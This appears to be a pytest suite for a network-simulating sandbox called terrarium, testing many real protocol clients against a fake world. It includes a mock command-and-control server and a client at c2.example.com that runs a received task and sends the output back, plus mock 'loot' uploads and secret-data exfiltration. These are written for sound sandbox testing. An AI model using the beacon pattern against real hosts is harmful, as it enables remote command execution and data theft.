"""Real clients, unmodified, against a world that does not exist: each believes that it reached somebody."""
import json
import os
import pathlib
import subprocess

import pytest

TERRARIUM = os.environ["TERRARIUM_UNDER_TEST"]

POLICY = """
terrarium: 1
network:
  - {connect: ["www.example.com:80", "www.example.com:443"], respond: ./site}
  - connect: ["api.example.com:80", "api.example.com:443"]
    http:
      - {method: POST, path: /items, match: {json: {name: "*"}}, status: 201, json: {id: 7}}
      - {method: POST, path: /login, match: {form: {user: bob}}, body: welcome}
      - {method: POST, path: /RPC2, file: ./rpc.xml, headers: {Content-Type: text/xml}}
      - {path: /stream, chunked: 100B, file: ./site/page.txt}
      - {path: /slow, delay: 30s, body: late}
      - {path: /old, redirect: /new}
      - {path: /new, json: {moved: true}}
      - {path: /ws, websocket: [{send: hello}, {any: [{expect: bye, send: ended, leave: true}, {expect: {regex: '^n(.)'}, reply: 'got $1'}]}, {close: true}]}
  - {connect: "git.example.com:443", respond: ./git}
  - {connect: "mail.example.com:25", service: smtp}
  - {connect: "mail.example.com:465", service: smtp, tls: true}
  - {connect: "ftp.example.com:21", service: ftp}
  - connect: "imap.example.com:143"
    talk:
      - {send: "* OK ready\\r\\n"}
      - any:
          - {expect: {regex: '(\\w+) CAPABILITY\\r\\n'}, reply: "* CAPABILITY IMAP4rev1\\r\\n$1 OK done\\r\\n"}
          - {expect: {regex: '(\\w+) LOGIN .*\\r\\n'}, reply: "$1 OK in\\r\\n"}
          - {expect: {regex: '(\\w+) SELECT .*\\r\\n'}, reply: "* 3 EXISTS\\r\\n$1 OK [READ-WRITE] done\\r\\n"}
          - {expect: {regex: '(\\w+) LOGOUT\\r\\n'}, reply: "* BYE\\r\\n$1 OK bye\\r\\n", leave: true}
      - {close: true}
  - {connect: "c2.example.com:4444", program: [python3, /box/c2.py]}
  - {connect: "app.example.com:80", serve: [python3, -m, http.server, "80", --bind, 127.0.0.1, --directory, /srv]}
  - {connect: "time.example.com:123", protocol: udp, service: ntp}
  - {connect: "sink.example.com:*", service: tls-sink}
mounts:
  - {at: /box/c2.py, host: ./c2.py}
files:
  /srv/hello.txt: "served inside\\n"
"""

C2 = """
import base64, sys
for line in sys.stdin:
    words = line.split()
    if words[:1] == ["hello"]:
        print("task", base64.b64encode(b"uname").decode(), flush=True)
    elif words[:1] == ["result"]:
        print("thanks", len(base64.b64decode(words[1])), flush=True)
        break
"""


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    d = tmp_path_factory.mktemp("network")
    (d / "site").mkdir()
    (d / "site/page.txt").write_text("x" * 10240)
    (d / "site/index.html").write_text("<h1>hi</h1>")
    (d / "rpc.xml").write_text("<?xml version='1.0'?><methodResponse><params><param><value><int>42</int></value></param>"
                               "</params></methodResponse>")
    (d / "c2.py").write_text(C2)
    (d / "policy.yaml").write_text(POLICY)
    repo = d / "repo"
    git = ["git", "-c", "user.name=a", "-c", "user.email=a@b", "-C", str(repo)]
    repo.mkdir()
    (repo / "README").write_text("cloned\n")
    for command in (["init", "-q"], ["add", "."], ["commit", "-q", "-m", "one"], ["update-server-info"]):
        subprocess.run([*git, *command], check=True)
    (d / "git").mkdir()
    subprocess.run(["git", "clone", "-q", "--bare", str(repo), str(d / "git/repo.git")], check=True)
    subprocess.run(["git", "-C", str(d / "git/repo.git"), "update-server-info"], check=True)
    return d


def run(world, *arguments, options=(), timeout=300):
    report = world / "report.json"
    done = subprocess.run([TERRARIUM, "run", "--policy", "policy.yaml", "--report", str(report), *options, "--", *arguments], cwd=world,
                          capture_output=True, text=True, timeout=timeout)
    assert done.returncode == 0, done.stdout + done.stderr
    return done.stdout, json.loads(report.read_text())


PYTHON = {
    "urllib": ("""
import urllib.request
print(urllib.request.urlopen("http://www.example.com/").read(), len(urllib.request.urlopen("https://www.example.com/page.txt").read()))
""", "b'<h1>hi</h1>' 10240\n"),
    "requests": ("""
import requests
s = requests.Session()
print(s.get("https://www.example.com/page.txt").headers["content-encoding"], s.post("https://api.example.com/items", json={"name": "a"}).json(),
      s.post("http://api.example.com/login", data={"user": "bob"}).text, s.get("https://api.example.com/old").json(),
      len(s.get("https://api.example.com/stream").content), s.get("https://api.example.com/none").status_code,
      s.get("https://www.example.com/page.txt", headers={"Range": "bytes=0-9"}).text)
""", "gzip {'id': 7} welcome {'moved': True} 10240 404 xxxxxxxxxx\n"),
    "requests, patience": ("""
import requests, time
t = time.time()
try: requests.get("http://api.example.com/slow", timeout=10)
except requests.exceptions.ReadTimeout: print("timeout", round(time.time() - t))
print(requests.get("http://api.example.com/slow").text, round(time.time() - t))
""", "timeout 10\nlate 40\n"),
    "urllib3": ("""
import urllib3
print(urllib3.PoolManager().request("GET", "https://www.example.com/").data)
""", "b'<h1>hi</h1>'\n"),
    "httpx": ("""
import httpx
print(httpx.get("https://api.example.com/new").json(), httpx.get("http://www.example.com/").http_version)
""", "{'moved': True} HTTP/1.1\n"),
    "aiohttp": ("""
import aiohttp, asyncio
async def main():
    async with aiohttp.ClientSession() as s:
        pages = await asyncio.gather(*(s.get("https://www.example.com/page.txt") for _ in range(20)))
        print({len(await p.read()) for p in pages}, await (await s.post("https://api.example.com/items", json={"name": "b"})).json())
        async with s.ws_connect("wss://api.example.com/ws") as w:
            print(await w.receive_str())
            await w.send_str("no")
            print(await w.receive_str())
            await w.send_str("bye")
            print(await w.receive_str(), (await w.receive()).type.name)
asyncio.run(main())
""", "{10240} {'id': 7}\nhello\ngot o\nended CLOSE\n"),
    "websockets": ("""
import asyncio, websockets
async def main():
    async with websockets.connect("wss://api.example.com/ws") as w:
        print(await w.recv()); await w.send("bye"); print(await w.recv())
        try: await w.recv()
        except websockets.ConnectionClosedOK as e: print("closed")
asyncio.run(main())
""", "hello\nended\nclosed\n"),
    "xmlrpc": ("""
import xmlrpc.client
print(xmlrpc.client.ServerProxy("https://api.example.com/RPC2").answer())
""", "42\n"),
    "smtplib": ("""
import smtplib
from email.message import EmailMessage
m = EmailMessage(); m["Subject"] = "hi"; m["From"] = "a@b.example"; m["To"] = "c@d.example"; m.set_content("text\\n.dot\\n")
with smtplib.SMTP("mail.example.com") as s:
    s.starttls(); s.login("user", "password"); print(s.send_message(m))
with smtplib.SMTP_SSL("mail.example.com") as s: print(s.send_message(m))
""", "{}\n{}\n"),
    "ftplib": ("""
import ftplib, io
f = ftplib.FTP("ftp.example.com", "user", "password"); f.cwd("in")
f.storbinary("STOR a.bin", io.BytesIO(bytes(range(256)) * 1000)); got = io.BytesIO(); f.retrbinary("RETR a.bin", got.write)
print(f.nlst(), f.size("a.bin"), got.getvalue() == bytes(range(256)) * 1000); f.quit()
""", "['a.bin'] 256000 True\n"),
    "imaplib": ("""
import imaplib
m = imaplib.IMAP4("imap.example.com"); print(m.login("a", "b")[0], m.select()); m.logout()
""", "OK ('OK', [b'3'])\n"),
    "ntp": ("""
import socket, struct, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"\\x23" + bytes(47), ("time.example.com", 123))
print(abs(struct.unpack("!I", s.recv(100)[40:44])[0] - 2208988800 - time.time()) < 1)
""", "True\n"),
    "a fake c2": ("""
import base64, socket, subprocess
f = socket.create_connection(("c2.example.com", 4444)).makefile("rw")
def say(words): f.write(words + "\\n"); f.flush(); return f.readline().split()
task = base64.b64decode(say("hello bot7")[1]).decode()
print(task, say("result " + base64.b64encode(subprocess.check_output([task])).decode()), repr(f.read()))
""", "uname ['thanks', '6'] ''\n"),
    "a server inside": ("""
import urllib.request
print(urllib.request.urlopen("http://app.example.com/hello.txt").read(), urllib.request.urlopen("http://app.example.com/hello.txt").status)
""", "b'served inside\\n' 200\n"),
    "tls-sink": ("""
import socket, ssl
s = ssl.create_default_context().wrap_socket(socket.create_connection(("sink.example.com", 9999)), server_hostname="sink.example.com")
s.sendall(b"secret" * 1000); print(s.version(), s.getpeercert()["subject"][-1]); s.close()
""", "TLSv1.3 (('commonName', 'sink.example.com'),)\n"),
}


@pytest.mark.parametrize("name", PYTHON)
def test_clients_in_python(world, name):
    code, expected = PYTHON[name]
    assert run(world, "-c", code)[0] == expected


def test_what_is_answered_is_the_same_twice(world):
    """Certificates, handshakes, ports: all of it is the seed's."""
    code = """
import requests, ssl, socket, hashlib
print(requests.get("https://www.example.com/").headers, hashlib.sha256(open("/etc/ssl/certs/ca-certificates.crt", "rb").read()).hexdigest())
s = ssl.create_default_context().wrap_socket(socket.create_connection(("www.example.com", 443)), server_hostname="www.example.com")
print(hashlib.sha256(s.getpeercert(True)).hexdigest(), s.getsockname(), s.cipher())
"""
    reports = []
    for _ in range(2):
        reports.append(run(world, "-c", code))
    assert reports[0][0] == reports[1][0]
    assert [(a["sent"], a["received"]) for a in reports[0][1]["network"] if a["kind"] == "tcp"] == \
        [(a["sent"], a["received"]) for a in reports[1][1]["network"] if a["kind"] == "tcp"]


def exec_(world, *arguments):
    done = subprocess.run([TERRARIUM, "exec", "--policy", "policy.yaml", "--", *arguments], cwd=world, capture_output=True,
                          text=True, timeout=300)
    assert done.returncode == 0, done.stdout + done.stderr
    return done.stdout


def test_curl(world):
    assert exec_(world, "curl", "-sS", "https://www.example.com/", "http://www.example.com/") == "<h1>hi</h1>" * 2
    assert exec_(world, "curl", "-sS", "--compressed", "-o", "/dev/null", "-w", "%{http_code} %{size_download} %{ssl_verify_result}",
                 "https://www.example.com/page.txt").split()[::2] == ["200", "0"]
    assert exec_(world, "curl", "-sS", "-d", '{"name": "x"}', "-H", "Expect: 100-continue",
                 "https://api.example.com/items") == '{"id":7}'
    assert exec_(world, "curl", "-sS", "-T", "/etc/hostname", "ftp://ftp.example.com/in/") == ""


def test_git_clones_over_https(world):
    assert exec_(world, "sh", "-c", "cd /tmp && git clone -q https://git.example.com/repo.git && cat repo/README") == "cloned\n"


def test_mails_and_uploads_are_in_the_report_and_the_export(world, tmp_path):
    code = """
import smtplib, ftplib, io
s = smtplib.SMTP("mail.example.com"); s.sendmail("a@b", ["c@d"], "Subject: x\\r\\n\\r\\nthe text\\r\\n"); s.quit()
f = ftplib.FTP("ftp.example.com"); f.login(); f.storbinary("STOR loot.zip", io.BytesIO(b"loot")); f.quit()
"""
    _, report = run(world, "-c", code, options=["--export", str(tmp_path / "out")])
    text = json.dumps(report["network"])
    assert "loot.zip" in text and "c@d" in text
    data = next(a for a in report["network"] if "part_of" in a)
    control = next(a for a in report["network"] if a.get("number") == data["part_of"])
    assert control["port"] == 21 and data["serves"] == "STOR /loot.zip" and data["sent"]["bytes"] == 4
    assert data["name"] == "ftp.example.com" and data["rule"] == control["rule"]
    kept = [p.read_bytes() for p in pathlib.Path(tmp_path / "out/network").rglob("*") if p.is_file()]
    assert b"loot" in kept and b"Subject: x\r\n\r\nthe text\r\n" in kept


def test_a_fixture_that_is_missing_is_said_with_its_line(tmp_path):
    (tmp_path / "p.yaml").write_text('terrarium: 1\nnetwork:\n  - {connect: "a.example:80", respond: ./none}\n')
    done = subprocess.run([TERRARIUM, "run", "--policy", "p.yaml", "--", "-c", "pass"], cwd=tmp_path, capture_output=True, text=True,
                          timeout=20)
    assert done.returncode == 125
    assert "p.yaml:3:" in done.stderr and "No such file or directory" in done.stderr


def test_ftp_active_and_passive_within_tls_and_not(terrarium, tmp_path):
    """For active data the far end connects to the guest's own socket; each is in the report as a part of the session."""
    done = terrarium("run", "--capture", "c.pcapng", "--", "-c", """
import ftplib, io, socket
for kind in ftplib.FTP, ftplib.FTP_TLS:
    for passive in True, False:
        f = kind("ftp.example"); f.login("me", "pw"); f.set_pasv(passive)
        if kind is ftplib.FTP_TLS: f.prot_p()
        f.storbinary("STOR a.bin", io.BytesIO(b"data" * 50000)); got = []
        f.retrbinary("RETR a.bin", got.append); print(len(b"".join(got)), f.nlst(), f.quit())
f = ftplib.FTP("ftp.example"); f.login()
l = socket.create_server(("", 0)); l.listen(1)
f.sendcmd(f"EPRT |1|10.0.2.15|{l.getsockname()[1]}|")
f.putcmd("LIST"); c, who = l.accept(); print(f.getresp(), who[1], c.recv(9)); c.close(); print(f.getresp())
l.close()
for c in "NLST", "PORT 10,0,2,15,1,1", "NLST", "PORT 1,2,3", "PORT 300,0,0,0,0,0", "EPRT |1|8.8.8.8|80|", "LIST", "EPRT |3|x|1|", "EPRT", "PROT P":
    try: print(c, f.sendcmd(c)[:3])
    except ftplib.Error as e: print(c, str(e)[:3])
""", policy='terrarium: 1\nnetwork: [{connect: "ftp.example:21", service: ftp}]\n', report=True)
    assert done.status == 0 and done.out.splitlines() == ["200000 ['a.bin'] 221 Bye"] * 4 + [
        "150 Here it comes 20 b''", "226 Transfer complete", "NLST 425", "PORT 10,0,2,15,1,1 200", "NLST 425", "PORT 1,2,3 501",
        "PORT 300,0,0,0,0,0 501", "EPRT |1|8.8.8.8|80| 200", "LIST 425", "EPRT |3|x|1| 522", "EPRT 522", "PROT P 503"], done
    tried = [a for a in done.report["network"] if a["kind"] == "tcp"]
    active = [a for a in tried if a["port"] == 20]
    assert len(active) == 7 and all(a["name"] == "ftp.example" and a["outcome"] == "connected" and "part_of" in a for a in active), tried
    assert [a["serves"] for a in active[:3]] == ["STOR /a.bin", "RETR /a.bin", "NLST /"]
    assert [(a["sent"]["bytes"], a["received"]["bytes"]) for a in active[:2]] == [(200000, 0), (0, 200000)]
    assert all("version" in a["tls"] for a in active[3:6])
    wrong = subprocess.run(["tshark", "-r", str(tmp_path / "c.pcapng"), "-Y", "_ws.expert.severity >= 0x00600000 && !tcp.flags.reset"],
                           capture_output=True, text=True, timeout=60)
    assert (wrong.returncode, wrong.stdout) == (0, "")


def test_an_irc_bot(terrarium):
    done = terrarium("run", "--", "-c", """
import irc.client
r = irc.client.IRC()
def on(kind):
    return lambda f: r.add_global_handler(kind, f)
@on("welcome")
def _(c, e): print("welcome", c.get_nickname(), e.source); c.join("#chan")
@on("join")
def _(c, e): print("joined", e.target, e.source.nick); c.privmsg("#chan", "all your files"); c.topic("#chan", "news"); c.who("#chan")
@on("namreply")
def _(c, e): print("names", e.arguments)
@on("topic")
def _(c, e): print("topic", e.arguments)
@on("endofwho")
def _(c, e): print("who", e.arguments); c.ping("are you there")
@on("pong")
def _(c, e): print("pong", e.arguments); c.part("#chan")
@on("part")
def _(c, e): print("part", e.target); c.quit("bye")
@on("disconnect")
def _(c, e): print("over"); raise SystemExit
r.server().connect("irc.example", 6667, "bot", username="me", ircname="My Name")
r.process_forever(0.1)
""", policy='terrarium: 1\nnetwork: [{connect: "irc.example:6667", service: irc}]\n')
    assert (done.status, done.out.splitlines()) == (0, [
        "welcome bot irc.local", "joined #chan bot", "names ['=', '#chan', 'bot']", "topic ['news']", "who ['#chan', 'End of WHO list']",
        "pong ['are you there']", "part #chan", "over"]), done
